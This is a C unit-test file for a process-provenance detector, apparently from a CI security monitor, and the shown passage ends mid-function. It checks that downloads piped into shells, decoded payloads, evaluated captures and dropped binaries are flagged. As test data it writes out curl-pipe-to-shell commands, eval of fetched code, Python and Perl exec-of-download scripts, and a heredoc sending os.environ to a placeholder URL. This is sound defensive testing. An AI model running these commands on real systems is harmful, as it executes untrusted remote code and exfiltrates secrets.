// SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
/*
 * Provenance (user/pipeline/provenance.c) on hand-made processes: pipes
 * joined in either order, filters passing what they read on, command
 * substitution, files written after network input, interpreters' program
 * sources and argv[0] that names another program.
 */
#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/socket.h>
#include <cmocka.h>

#include "pipeline/provenance.h"
#include "lib/refstr.h"

#define ARGV(...) ((const char *const[]){ __VA_ARGS__, NULL })

struct world {
	struct bw_proctab t;
	struct provenance pv;
	struct prov_rejudge rj;
	uint32_t next_pid;
};

static int setup(void **state)
{
	struct world *w = calloc(1, sizeof(*w));

	assert_non_null(w);
	assert_int_equal(proctab_init(&w->t), 0);
	prov_init(&w->pv);
	w->next_pid = 100;
	*state = w;
	return 0;
}

static int teardown(void **state)
{
	struct world *w = *state;

	prov_free(&w->pv);
	proctab_free(&w->t);
	free(w);
	return 0;
}

/* A forked child of parent that has not exec'd (a subshell), as the lineage table makes it. */
static struct bw_proc *fork_of(struct world *w, struct bw_proc *parent)
{
	struct bw_fork_event f = { .hdr = { .type = BW_EV_FORK, .size = sizeof(f) } };
	struct bw_event_view v = { .hdr = &f.hdr, .fork = &f };
	struct bw_proc *p;

	f.hdr.pid = w->next_pid;
	f.hdr.start_ns = w->next_pid * 1000ULL;
	f.hdr.ktime_ns = f.hdr.start_ns;
	if (parent) {
		f.parent_pid = parent->pid;
		f.parent_start_ns = parent->start_ns;
		assert_int_equal(proctab_apply(&w->t, &v), 0);
	}
	p = proctab_get(&w->t, w->next_pid, w->next_pid * 1000ULL);
	assert_non_null(p);
	w->next_pid++;
	return p;
}

static void pipe_end(struct bw_stdio *s, uint64_t id, uint16_t mode)
{
	memset(s, 0, sizeof(*s));
	s->kind = BW_STDIO_PIPE;
	s->id = id;
	s->mode = mode;
}

/*
 * p execs exe with argv, through the lineage table as the engine does;
 * in/out: pipe ids for fd 0/1 (0: a tty); in_file/out_file: fd 0/1 is
 * that file.
 */
static const char *exec_env_str; /* NAME=VALUE the next exec_io carries, or NULL */

static void exec_io(struct world *w, struct bw_proc *p, const char *exe, const char *const *argv,
		    uint64_t in, uint64_t out, const char *in_file, const char *out_file)
{
	struct bw_exec_event x;
	struct bw_event_view v;
	char args[4096];
	uint32_t n = 0;

	memset(&x, 0, sizeof(x));
	memset(&v, 0, sizeof(v));
	x.hdr = (struct bw_event_header){ .type = BW_EV_EXEC, .size = sizeof(x), .pid = p->pid,
					  .start_ns = p->start_ns, .job_id = p->job_id };
	for (size_t i = 0; argv[i]; i++) {
		size_t l = strlen(argv[i]) + 1;

		assert_true(n + l <= sizeof(args));
		memcpy(args + n, argv[i], l);
		n += l;
	}
	for (int fd = 0; fd < 3; fd++) {
		x.stdio[fd].kind = BW_STDIO_TTY;
		x.stdio[fd].mode = BW_STDIO_READ | BW_STDIO_WRITE;
	}
	if (in)
		pipe_end(&x.stdio[0], in, BW_STDIO_READ);
	if (out)
		pipe_end(&x.stdio[1], out, BW_STDIO_WRITE);
	if (in_file) {
		x.stdio[0].kind = BW_STDIO_FILE;
		x.stdio[0].mode = BW_STDIO_READ;
		v.stdio_path[0] = in_file;
	}
	if (out_file) {
		x.stdio[1].kind = BW_STDIO_FILE;
		x.stdio[1].mode = BW_STDIO_WRITE;
		v.stdio_path[1] = out_file;
	}
	v.hdr = &x.hdr;
	v.exec = &x;
	v.filename = v.exe = exe;
	v.cwd = p->cwd;
	v.args = args;
	v.args_len = n;
	if (exec_env_str) {
		v.env = exec_env_str;
		v.env_len = (uint32_t)strlen(exec_env_str) + 1;
	}
	assert_int_equal(proctab_apply(&w->t, &v), 0);
	prov_on_exec(&w->pv, &w->t, p, &v, &w->rj);
}

static void exec_as(struct world *w, struct bw_proc *p, const char *exe,
		    const char *const *argv, uint64_t in, uint64_t out, const char *out_file)
{
	exec_io(w, p, exe, argv, in, out, NULL, out_file);
}

/* The job's shell: bash running the job's script. */
/* An exec of exe (argv its basename) with one loader variable set. */
static void exec_env(struct world *w, struct bw_proc *p, const char *exe, const char *env)
{
	exec_env_str = env;
	exec_as(w, p, exe, ARGV(strrchr(exe, '/') + 1), 0, 0, NULL);
	exec_env_str = NULL;
}

static struct bw_proc *job_shell(struct world *w)
{
	struct bw_proc *shell = fork_of(w, NULL);

	exec_as(w, shell, "/usr/bin/bash", ARGV("bash", "ci.sh"), 0, 0, NULL);
	return shell;
}

static struct bw_exec_info info_of(struct world *w, struct bw_proc *p)
{
	struct bw_exec_info e;

	memset(&e, 0, sizeof(e));
	prov_fill(&w->pv, &w->t, p, &e);
	return e;
}

static bool rejudged(const struct world *w, const struct bw_proc *p)
{
	for (uint32_t i = 0; i < w->rj.n; i++)
		if (w->rj.procs[i] == p)
			return true;
	return false;
}

static void connect_of(struct world *w, struct bw_proc *p, uint16_t port, int result)
{
	struct bw_connect_info c = { .family = AF_INET, .port = port, .result = result };

	prov_on_connect(&w->pv, &w->t, p, &c, &w->rj);
}

static void file_op(struct world *w, struct bw_proc *p, const char *op, const char *path,
		    const char *path2)
{
	struct bw_file_info f = { .op = op, .path = path, .path2 = path2 };

	prov_on_file(&w->pv, &w->t, p, &f, &w->rj);
}

/* `curl URL | tee >(sh)`: tee writes the shell's pipe through /dev/fd/63, in any start order. */
static void test_process_substitution_writer(void **state)
{
	struct world *w = *state;
	struct bw_proc *shell = job_shell(w), *curl, *tee, *sh;

	/* bash forks >(sh) from the subshell that then runs tee */
	tee = fork_of(w, shell);
	sh = fork_of(w, tee);
	curl = fork_of(w, shell);
	exec_as(w, sh, "/usr/bin/dash", ARGV("sh"), 81, 0, NULL);
	assert_int_equal(info_of(w, sh).stdin_prov & BW_PROV_NETWORK, 0);
	exec_as(w, tee, "/usr/bin/tee", ARGV("tee", "/dev/fd/63"), 80, 0, NULL);
	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-s", "http://x/i.sh"), 0, 80, NULL);
	assert_true(rejudged(w, sh));
	assert_int_equal(info_of(w, sh).stdin_prov, BW_PROV_PIPE | BW_PROV_NETWORK);
	assert_int_equal(info_of(w, sh).program_from, BW_PROG_STDIN);
	/* a sibling's substitution, curl first */
	shell = job_shell(w);
	curl = fork_of(w, shell);
	tee = fork_of(w, shell);
	sh = fork_of(w, shell);
	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-s", "http://x/i.sh"), 0, 84, NULL);
	exec_as(w, tee, "/usr/bin/tee", ARGV("tee", "-a", "/proc/self/fd/62"), 84, 0, NULL);
	exec_as(w, sh, "/usr/bin/bash", ARGV("bash"), 85, 0, NULL);
	assert_int_equal(info_of(w, sh).stdin_prov, BW_PROV_PIPE | BW_PROV_NETWORK);
	/* in another shell, or tee to a file: nothing passed on */
	shell = job_shell(w);
	sh = fork_of(w, shell);
	tee = fork_of(w, shell);
	curl = fork_of(w, shell);
	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-s", "http://x/i.sh"), 0, 82, NULL);
	exec_as(w, tee, "/usr/bin/tee", ARGV("tee", "log.txt"), 82, 0, NULL);
	exec_as(w, sh, "/usr/bin/dash", ARGV("sh"), 83, 0, NULL);
	assert_int_equal(info_of(w, sh).stdin_prov & BW_PROV_NETWORK, 0);
}

/* `curl URL | sh`, whichever of the two starts first. */
static void test_pipe_either_order(void **state)
{
	struct world *w = *state;
	struct bw_proc *shell = job_shell(w), *sh, *curl;
	struct bw_exec_info e;

	sh = fork_of(w, shell);
	curl = fork_of(w, shell);
	/* the reader first: nothing known yet */
	exec_as(w, sh, "/usr/bin/dash", ARGV("sh"), 7, 0, NULL);
	e = info_of(w, sh);
	assert_int_equal(e.program_from, BW_PROG_STDIN);
	assert_int_equal(e.stdin_prov, BW_PROV_PIPE);
	/* the writer starts: the reader is judged again and now knows */
	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-fsSL", "http://127.0.0.1/i.sh"), 0, 7, NULL);
	assert_true(rejudged(w, sh));
	e = info_of(w, sh);
	assert_int_equal(e.stdin_prov, BW_PROV_PIPE | BW_PROV_NETWORK);

	/* the writer first */
	sh = fork_of(w, shell);
	curl = fork_of(w, shell);
	exec_as(w, curl, "/usr/bin/wget", ARGV("wget", "-qO-", "http://x"), 0, 8, NULL);
	exec_as(w, sh, "/usr/bin/bash", ARGV("bash", "-s", "--", "-y"), 8, 0, NULL);
	e = info_of(w, sh);
	assert_int_equal(e.stdin_prov, BW_PROV_PIPE | BW_PROV_NETWORK);
	assert_int_equal(e.program_from, BW_PROG_STDIN);
}

/* A writer that is no downloader by name becomes one when it connects. */
static void test_pipe_writer_connects(void **state)
{
	struct world *w = *state;
	struct bw_proc *shell = job_shell(w), *py, *sh;

	py = fork_of(w, shell);
	sh = fork_of(w, shell);
	exec_as(w, py, "/usr/bin/python3.11", ARGV("python3", "fetch.py"), 0, 9, NULL);
	exec_as(w, sh, "/usr/bin/dash", ARGV("sh"), 9, 0, NULL);
	assert_int_equal(info_of(w, sh).stdin_prov, BW_PROV_PIPE);
	/* a name lookup and a refused connect carry no payload */
	connect_of(w, py, 53, 0);
	connect_of(w, py, 80, -ECONNREFUSED);
	assert_int_equal(info_of(w, sh).stdin_prov, BW_PROV_PIPE);
	connect_of(w, py, 8080, -EINPROGRESS);
	assert_true(rejudged(w, sh));
	assert_int_equal(info_of(w, sh).stdin_prov, BW_PROV_PIPE | BW_PROV_NETWORK);
}

/* curl | tee | base64 -d | sh: filters pass on what they read. */
static void test_filters_and_decoders(void **state)
{
	struct world *w = *state;
	struct bw_proc *shell = job_shell(w), *curl, *tee, *dec, *sh, *cat, *sh2;

	sh = fork_of(w, shell);
	dec = fork_of(w, shell);
	tee = fork_of(w, shell);
	curl = fork_of(w, shell);
	exec_as(w, sh, "/usr/bin/bash", ARGV("bash"), 12, 0, NULL);
	exec_as(w, dec, "/usr/bin/base64", ARGV("base64", "-d"), 11, 12, NULL);
	assert_int_equal(info_of(w, sh).stdin_prov, BW_PROV_PIPE | BW_PROV_DECODER);
	exec_as(w, tee, "/usr/bin/tee", ARGV("tee", "log"), 10, 11, NULL);
	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-s", "http://x"), 0, 10, NULL);
	assert_int_equal(info_of(w, sh).stdin_prov,
			 BW_PROV_PIPE | BW_PROV_DECODER | BW_PROV_NETWORK);

	/* plain data through plain programs stays plain */
	cat = fork_of(w, shell);
	sh2 = fork_of(w, shell);
	exec_as(w, cat, "/usr/bin/cat", ARGV("cat", "script.sh"), 0, 20, NULL);
	exec_as(w, sh2, "/usr/bin/dash", ARGV("sh"), 20, 0, NULL);
	assert_int_equal(info_of(w, sh2).stdin_prov, BW_PROV_PIPE);
	/* decoders are known by what they are asked to do */
	exec_as(w, cat, "/usr/bin/base64", ARGV("base64", "-w0", "file"), 0, 21, NULL);
	exec_as(w, sh2, "/usr/bin/dash", ARGV("sh"), 21, 0, NULL);
	assert_int_equal(info_of(w, sh2).stdin_prov, BW_PROV_PIPE);
	exec_as(w, cat, "/usr/bin/xxd", ARGV("xxd", "-r", "-p"), 0, 22, NULL);
	exec_as(w, sh2, "/usr/bin/dash", ARGV("sh"), 22, 0, NULL);
	assert_int_equal(info_of(w, sh2).stdin_prov, BW_PROV_PIPE | BW_PROV_DECODER);
	exec_as(w, cat, "/usr/bin/python3.11",
		ARGV("python3", "-c", "import base64,sys;sys.stdout.write(base64.b64decode('eA==').decode())"),
		0, 23, NULL);
	exec_as(w, sh2, "/usr/bin/dash", ARGV("sh"), 23, 0, NULL);
	assert_int_equal(info_of(w, sh2).stdin_prov, BW_PROV_PIPE | BW_PROV_DECODER);
	/* a script stored reversed */
	exec_as(w, cat, "/usr/bin/rev", ARGV("rev", "payload.txt"), 0, 24, NULL);
	exec_as(w, sh2, "/usr/bin/dash", ARGV("sh"), 24, 0, NULL);
	assert_int_equal(info_of(w, sh2).stdin_prov, BW_PROV_PIPE | BW_PROV_DECODER);
}

/* bash -c "$(curl ...)": the shell read the pipe itself. */
static void test_command_substitution(void **state)
{
	struct world *w = *state;
	struct bw_proc *shell = job_shell(w), *sub, *curl, *child, *tar;
	struct bw_exec_info e;

	/* a pipeline read by a program: curl | tar, then sh -c */
	curl = fork_of(w, shell);
	tar = fork_of(w, shell);
	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-sL", "http://x/a.tgz"), 0, 30, NULL);
	exec_as(w, tar, "/usr/bin/tar", ARGV("tar", "xz"), 30, 0, NULL);
	child = fork_of(w, shell);
	exec_as(w, child, "/usr/bin/dash", ARGV("sh", "-c", "make"), 0, 0, NULL);
	e = info_of(w, child);
	assert_int_equal(e.program_from, BW_PROG_ARGUMENT);
	assert_int_equal(e.script_prov, 0);
	/* $(echo ... | base64 -d) in a subshell, then bash -c */
	sub = fork_of(w, shell);
	curl = fork_of(w, sub);
	exec_as(w, curl, "/usr/bin/base64", ARGV("base64", "--decode"), 31, 32, NULL);
	child = fork_of(w, shell);
	exec_as(w, child, "/usr/bin/bash", ARGV("bash", "-c", "id"), 0, 0, NULL);
	assert_int_equal(info_of(w, child).script_prov, BW_PROV_DECODER);
	/* bash <(curl ...): the reader may start first, and reads /dev/fd/63 */
	child = fork_of(w, shell);
	curl = fork_of(w, shell);
	exec_as(w, child, "/usr/bin/bash", ARGV("bash", "/dev/fd/63"), 0, 0, NULL);
	assert_int_equal(info_of(w, child).script_prov, 0);
	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-s", "http://x/i.sh"), 0, 33, NULL);
	assert_true(rejudged(w, child));
	e = info_of(w, child);
	assert_int_equal(e.program_from, BW_PROG_FD);
	assert_int_equal(e.script_prov, BW_PROV_NETWORK);
}

/*
 * A shell that runs its last command in place: bash -c 'x=$(curl ...);
 * sh -c "$x"' execs sh itself, and its own capture is the program's.
 */
static void test_substitution_in_place(void **state)
{
	struct world *w = *state;
	struct bw_proc *shell = job_shell(w), *curl, *make;

	curl = fork_of(w, shell);
	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-s", "http://x/i.sh"), 0, 50, NULL);
	exec_as(w, shell, "/usr/bin/dash", ARGV("sh", "-c", "id"), 0, 0, NULL);
	assert_int_equal(info_of(w, shell).script_prov, BW_PROV_NETWORK);
	/* Another command forked after the capture: not adjacent, not counted. */
	shell = job_shell(w);
	curl = fork_of(w, shell);
	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-s", "http://x/v"), 0, 51, NULL);
	make = fork_of(w, shell);
	exec_as(w, make, "/usr/bin/make", ARGV("make"), 0, 0, NULL);
	exec_as(w, shell, "/usr/bin/dash", ARGV("sh", "-c", "make check"), 0, 0, NULL);
	assert_int_equal(info_of(w, shell).script_prov, 0);
	/* The download went to a program (curl | tar), not into the shell. */
	shell = job_shell(w);
	curl = fork_of(w, shell);
	make = fork_of(w, shell);
	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-sL", "http://x/a.tgz"), 0, 52, NULL);
	exec_as(w, make, "/usr/bin/tar", ARGV("tar", "xz"), 52, 0, NULL);
	exec_as(w, shell, "/usr/bin/dash", ARGV("sh", "-c", "make"), 0, 0, NULL);
	assert_int_equal(info_of(w, shell).script_prov, 0);
}

/*
 * A new temporary directory's file name holding text; its path in path.
 * dir is a mkdtemp() template, used again after the directory is removed.
 */
static void temp_script(char *dir, char *path, size_t size, const char *name, const char *text)
{
	FILE *f;

	memcpy(dir + strlen(dir) - 6, "XXXXXX", 6);
	assert_non_null(mkdtemp(dir));
	snprintf(path, size, "%s/%s", dir, name);
	f = fopen(path, "w");
	assert_non_null(f);
	fputs(text, f);
	assert_int_equal(fclose(f), 0);
}

/*
 * A shell that evaluates in itself what it captured: in its -c program or
 * its script file, only when the text names the program that wrote the
 * capture and the kernel saw that program's output come from the network.
 */
static void test_capture_evaluated(void **state)
{
	struct world *w = *state;
	struct bw_proc *shell = job_shell(w), *sh, *curl, *agent;
	char dir[] = "/tmp/bw-prov-XXXXXX", path[64];

	sh = fork_of(w, shell);
	exec_as(w, sh, "/usr/bin/bash",
		ARGV("bash", "-c", "code=$(curl -s http://x/i.sh); eval \"$code\""), 0, 0, NULL);
	assert_int_equal(info_of(w, sh).script_prov, 0); /* nothing captured yet */
	curl = fork_of(w, sh);
	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-s", "http://x/i.sh"), 0, 60, NULL);
	assert_true(rejudged(w, sh));
	assert_int_equal(info_of(w, sh).script_prov, BW_PROV_NETWORK);
	/* the same capture only printed */
	sh = fork_of(w, shell);
	exec_as(w, sh, "/usr/bin/bash", ARGV("bash", "-c", "v=$(curl -s http://x/v); echo \"$v\""),
		0, 0, NULL);
	curl = fork_of(w, sh);
	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-s", "http://x/v"), 0, 61, NULL);
	assert_int_equal(info_of(w, sh).script_prov, 0);
	/* a script file, read once the capture is known */
	temp_script(dir, path, sizeof(path), "setup.sh",
		    "#!/bin/sh\nfetch() { curl -fsSL \"$1\"; }\neval \"$(fetch http://x/i.sh)\"\n");
	sh = fork_of(w, shell);
	exec_as(w, sh, "/usr/bin/dash", ARGV("sh", path), 0, 0, NULL);
	curl = fork_of(w, sh);
	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-fsSL", "http://x/i.sh"), 0, 62, NULL);
	assert_int_equal(info_of(w, sh).script_prov, BW_PROV_NETWORK);
	/* a capture of a program that is no download, evaluated */
	sh = fork_of(w, shell);
	exec_as(w, sh, "/usr/bin/dash", ARGV("sh", path), 0, 0, NULL);
	agent = fork_of(w, sh);
	exec_as(w, agent, "/usr/bin/ssh-agent", ARGV("ssh-agent", "-s"), 0, 63, NULL);
	assert_int_equal(info_of(w, sh).script_prov, 0);
	unlink(path);
	rmdir(dir);
}

static void connect_judged(struct world *w, struct bw_proc *p, uint16_t port)
{
	struct bw_connect_info c = { .family = AF_INET, .port = port };

	prov_before_connect(&w->pv, &w->t, p, &c);
	prov_on_connect(&w->pv, &w->t, p, &c, &w->rj);
}

/*
 * script_prov, at its first connect, of an interpreter (exe, started as
 * argv0) running a script file holding text; removed: the file is gone
 * between the exec and the connect.
 */
static uint32_t script_prov_at_connect(struct world *w, struct bw_proc *shell, const char *exe,
				       const char *argv0, const char *text, bool removed)
{
	char dir[] = "/tmp/bw-prov-py-XXXXXX", path[64];
	struct bw_proc *p;
	uint32_t prov;

	temp_script(dir, path, sizeof(path), "helper", text);
	p = fork_of(w, shell);
	exec_as(w, p, exe, ARGV(argv0, path), 0, 0, NULL);
	if (removed)
		unlink(path);
	connect_judged(w, p, 443);
	prov = info_of(w, p).script_prov;
	unlink(path);
	rmdir(dir);
	return prov;
}

/*
 * A program not on its command line: a script file read at its exec (it
 * may be gone by its connect), or a here-document its shell wrote into
 * its stdin pipe, read at its first connect.
 */
static void test_python_text_at_connect(void **state)
{
	struct world *w = *state;
	struct bw_proc *shell = job_shell(w), *sh, *py;

	assert_int_equal(script_prov_at_connect(w, shell, "/usr/bin/python3.11", "python3",
						"import urllib.request as u\nr = u.urlopen(URL)\n"
						"exec(r.read())\n",
						true),
			 BW_PROV_NETWORK);
	/* one that only fetches; Python's text read as Perl's evaluates nothing */
	assert_int_equal(script_prov_at_connect(w, shell, "/usr/bin/python3.11", "python3",
						"import urllib.request as u\n"
						"print(u.urlopen(URL).status)\n",
						false),
			 0);
	assert_int_equal(script_prov_at_connect(w, shell, "/usr/bin/perl", "perl",
						"import urllib.request as u\n"
						"exec(u.urlopen(URL).read())\n",
						false),
			 0);
	/* a Perl script outside /usr is read at its exec as Python's is */
	assert_int_equal(script_prov_at_connect(w, shell, "/usr/bin/perl", "perl",
						"use HTTP::Tiny;\nmy $r = HTTP::Tiny->new->get($ARGV[0]);\n"
						"eval $r->{content};\n",
						true),
			 BW_PROV_NETWORK);
	/* python3 - <<EOF in a bash -c program: the pipe only its shell writes */
	sh = fork_of(w, shell);
	exec_as(w, sh, "/usr/bin/bash",
		ARGV("bash", "-c", "python3 - <<'PY'\nimport os, json, urllib.request as u\n"
				   "u.urlopen(URL, data=json.dumps(dict(os.environ)).encode())\nPY\n"),
		0, 0, NULL);
	py = fork_of(w, sh);
	exec_as(w, py, "/usr/bin/python3.11", ARGV("python3", "-"), 70, 0, NULL);
	assert_int_equal(info_of(w, py).sends_prov, 0);
	connect_judged(w, py, 443);
	assert_true(rejudged(w, py));
	assert_int_equal(info_of(w, py).sends_prov, BW_PROV_ENVIRONMENT);
	assert_int_equal(info_of(w, py).script_prov, 0);
}

/*
 * A script's text handed inline to a shell by a parent that had connected
 * (subprocess.run(body, shell=True)); a one-line command is not a script,
 * and a package manager's lifecycle scripts are its own.
 */
static void test_inline_script_from_parent(void **state)
{
	struct world *w = *state;
	struct bw_proc *shell = job_shell(w), *py, *sh, *npm;

	py = fork_of(w, shell);
	exec_as(w, py, "/usr/bin/python3.11", ARGV("python3", "-"), 0, 0, NULL);
	connect_of(w, py, 443, 0);
	sh = fork_of(w, py);
	exec_as(w, sh, "/usr/bin/dash", ARGV("/bin/sh", "-c", "#!/bin/sh\nset -e\nid\n"), 0, 0, NULL);
	assert_int_equal(info_of(w, sh).script_prov, BW_PROV_NETWORK);
	exec_as(w, sh, "/usr/bin/dash", ARGV("/bin/sh", "-c", "make -j2 install"), 0, 0, NULL);
	assert_int_equal(info_of(w, sh).script_prov, 0);
	npm = fork_of(w, shell);
	exec_as(w, npm, "/usr/bin/node", ARGV("node", "/usr/bin/npm", "ci"), 0, 0, NULL);
	refstr_put(npm->origin); /* started as /usr/bin/npm, #!/usr/bin/env node */
	npm->origin = refstr_new("/usr/bin/npm");
	npm->prov = 0;
	exec_as(w, npm, "/usr/bin/node", ARGV("node", "/usr/bin/npm", "ci"), 0, 0, NULL);
	connect_of(w, npm, 443, 0);
	sh = fork_of(w, npm);
	exec_as(w, sh, "/usr/bin/dash", ARGV("sh", "-c", "node install.js\nnode-gyp rebuild\n"), 0,
		0, NULL);
	assert_int_equal(info_of(w, sh).script_prov, 0);
	/* the same parent before it connected */
	py = fork_of(w, shell);
	exec_as(w, py, "/usr/bin/python3.11", ARGV("python3", "build.py"), 0, 0, NULL);
	sh = fork_of(w, py);
	exec_as(w, sh, "/usr/bin/dash", ARGV("/bin/sh", "-c", "set -e\nmake\n"), 0, 0, NULL);
	assert_int_equal(info_of(w, sh).script_prov, 0);
}

/* The job's shared output pipe is no substitution, whoever writes to it. */
static void test_shared_output_pipe(void **state)
{
	struct world *w = *state;
	struct bw_proc *shell = fork_of(w, NULL), *curl, *child;

	exec_as(w, shell, "/usr/bin/bash", ARGV("bash", "ci.sh"), 0, 40, NULL);
	curl = fork_of(w, shell);
	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-s", "http://x/status"), 0, 40, NULL);
	child = fork_of(w, shell);
	exec_as(w, child, "/usr/bin/dash", ARGV("sh", "-c", "make check"), 0, 40, NULL);
	assert_int_equal(info_of(w, child).script_prov, 0);
}

/* Files written after network input, then run. */
static void test_dropped_files(void **state)
{
	struct world *w = *state;
	struct bw_proc *shell = job_shell(w), *py, *cc, *npm, *mv, *run, *dec;
	struct bw_exec_info e;

	py = fork_of(w, shell);
	exec_as(w, py, "/usr/bin/python3.11", ARGV("python3", "get.py"), 0, 0, NULL);
	file_op(w, py, "open-write", "/tmp/before", NULL); /* before it connected */
	connect_of(w, py, 443, 0);
	file_op(w, py, "open-write", "/tmp/payload.part", NULL);
	mv = fork_of(w, shell);
	exec_as(w, mv, "/usr/bin/mv", ARGV("mv", "/tmp/payload.part", "/tmp/payload"), 0, 0, NULL);
	file_op(w, mv, "rename", "/tmp/payload.part", "/tmp/payload");
	run = fork_of(w, shell);
	exec_as(w, run, "/tmp/payload", ARGV("/tmp/payload"), 0, 0, NULL);
	e = info_of(w, run);
	assert_int_equal(e.exe_prov, BW_PROV_WRITTEN | BW_PROV_NETWORK);
	/* a dropped script, run through its interpreter or by name */
	file_op(w, py, "open-write", "/src/setup.sh", NULL);
	exec_as(w, run, "/usr/bin/dash", ARGV("sh", "setup.sh"), 0, 0, NULL);
	refstr_put(run->cwd);
	run->cwd = refstr_new("/src");
	assert_int_equal(info_of(w, run).exe_prov, BW_PROV_WRITTEN | BW_PROV_NETWORK);
	exec_as(w, run, "/usr/bin/dash", ARGV("/bin/sh", "./setup.sh"), 0, 0, NULL);
	refstr_put(run->filename);
	run->filename = refstr_new("./setup.sh");
	assert_int_equal(info_of(w, run).exe_prov, BW_PROV_WRITTEN | BW_PROV_NETWORK);
	exec_as(w, run, "/tmp/before", ARGV("/tmp/before"), 0, 0, NULL);
	assert_int_equal(info_of(w, run).exe_prov, 0);
	/* `sh < setup.sh`: the file on stdin is the program; not with -c, nor for cat */
	exec_io(w, run, "/usr/bin/dash", ARGV("sh"), 0, 0, "/src/setup.sh", NULL);
	assert_int_equal(info_of(w, run).exe_prov, BW_PROV_WRITTEN | BW_PROV_NETWORK);
	exec_io(w, run, "/usr/bin/dash", ARGV("sh", "-c", "read x"), 0, 0, "/src/setup.sh", NULL);
	assert_int_equal(info_of(w, run).exe_prov, 0);
	exec_io(w, run, "/usr/bin/cat", ARGV("cat"), 0, 0, "/src/setup.sh", NULL);
	assert_int_equal(info_of(w, run).exe_prov, 0);
	exec_as(w, run, "/usr/bin/dash", ARGV("sh"), 0, 0, NULL); /* stdin a tty again */
	assert_int_equal(info_of(w, run).exe_prov, 0);

	/* a compiler never talked to the network */
	cc = fork_of(w, shell);
	exec_as(w, cc, "/usr/bin/ld", ARGV("ld", "-o", "prog"), 0, 0, NULL);
	file_op(w, cc, "open-write", "/src/prog", NULL);
	exec_as(w, run, "/src/prog", ARGV("./prog"), 0, 0, NULL);
	assert_int_equal(info_of(w, run).exe_prov, 0);

	/* a package manager's own download is its install */
	npm = fork_of(w, shell);
	exec_as(w, npm, "/usr/bin/node", ARGV("node", "/usr/bin/npm", "ci"), 0, 0, NULL);
	refstr_put(npm->origin);
	npm->origin = refstr_new("/usr/bin/npm");
	npm->prov = 0;
	exec_as(w, npm, "/usr/bin/node", ARGV("node", "/usr/bin/npm", "ci"), 0, 0, NULL);
	connect_of(w, npm, 443, 0);
	file_op(w, npm, "open-write", "/src/node_modules/.bin/esbuild", NULL);
	exec_as(w, run, "/src/node_modules/.bin/esbuild", ARGV("esbuild", "--version"), 0, 0, NULL);
	assert_int_equal(info_of(w, run).exe_prov, BW_PROV_WRITTEN | BW_PROV_PACKAGE_MANAGER);

	/* base64 -d > file: the shell opened it, the decoder wrote it */
	dec = fork_of(w, shell);
	exec_as(w, dec, "/usr/bin/base64", ARGV("base64", "-d"), 0, 0, "/tmp/stage2");
	exec_as(w, run, "/tmp/stage2", ARGV("/tmp/stage2"), 0, 0, NULL);
	assert_int_equal(info_of(w, run).exe_prov, BW_PROV_WRITTEN | BW_PROV_DECODER);
	/* rewritten by a plain program, deleted: no longer the dropped file */
	file_op(w, cc, "open-write", "/tmp/stage2", NULL);
	exec_as(w, run, "/tmp/stage2", ARGV("/tmp/stage2"), 0, 0, NULL);
	assert_int_equal(info_of(w, run).exe_prov, 0);
}

/* `curl -o p.tgz URL; tar xzf p.tgz`: what the extractor writes carries the archive's origin. */
static void test_archive_extracted(void **state)
{
	struct world *w = *state;
	struct bw_proc *shell = job_shell(w), *curl, *tar, *run;

	/* an archive of the checkout's own, before anything was downloaded */
	tar = fork_of(w, shell);
	exec_as(w, tar, "/usr/bin/tar", ARGV("tar", "xf", "/src/vendor.tgz"), 0, 0, NULL);
	file_op(w, tar, "open-write", "/src/vendor/bin/tool", NULL);
	run = fork_of(w, shell);
	exec_as(w, run, "/src/vendor/bin/tool", ARGV("tool"), 0, 0, NULL);
	assert_int_equal(info_of(w, run).exe_prov, 0);

	curl = fork_of(w, shell);
	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-o", "/tmp/p.tgz", "http://x/p.tgz"), 0, 0,
		NULL);
	file_op(w, curl, "open-write", "/tmp/p.tgz", NULL);
	tar = fork_of(w, shell);
	exec_as(w, tar, "/usr/bin/tar", ARGV("tar", "-xzf", "/tmp/p.tgz", "-C", "/tmp/x"), 0, 0,
		NULL);
	file_op(w, tar, "open-write", "/tmp/x/bin/miner", NULL);
	exec_as(w, run, "/tmp/x/bin/miner", ARGV("miner"), 0, 0, NULL);
	assert_int_equal(info_of(w, run).exe_prov, BW_PROV_WRITTEN | BW_PROV_NETWORK);

	/* named relative to its cwd, or with --file= */
	refstr_put(curl->cwd);
	curl->cwd = refstr_new("/src");
	file_op(w, curl, "open-write", "/src/q.zip", NULL);
	tar = fork_of(w, shell);
	tar->cwd = refstr_new("/src");
	exec_as(w, tar, "/usr/bin/unzip", ARGV("unzip", "-o", "./q.zip"), 0, 0, NULL);
	file_op(w, tar, "open-write", "/src/q/run", NULL);
	exec_as(w, run, "/src/q/run", ARGV("run"), 0, 0, NULL);
	assert_int_equal(info_of(w, run).exe_prov, BW_PROV_WRITTEN | BW_PROV_NETWORK);
	tar = fork_of(w, shell);
	exec_as(w, tar, "/usr/bin/tar", ARGV("tar", "-x", "--file=/tmp/p.tgz"), 0, 0, NULL);
	file_op(w, tar, "open-write", "/tmp/y/agent", NULL);
	exec_as(w, run, "/tmp/y/agent", ARGV("agent"), 0, 0, NULL);
	assert_int_equal(info_of(w, run).exe_prov, BW_PROV_WRITTEN | BW_PROV_NETWORK);
}

/* copier (exe, argv) writes dest, then dest runs: what its exec's provenance says. */
static uint32_t copy_then_run(struct world *w, struct bw_proc *shell, struct bw_proc *run,
			      const char *exe, const char *const *argv, const char *dest)
{
	struct bw_proc *cp = fork_of(w, shell);

	exec_as(w, cp, exe, argv, 0, 0, NULL);
	file_op(w, cp, "open-write", dest, NULL);
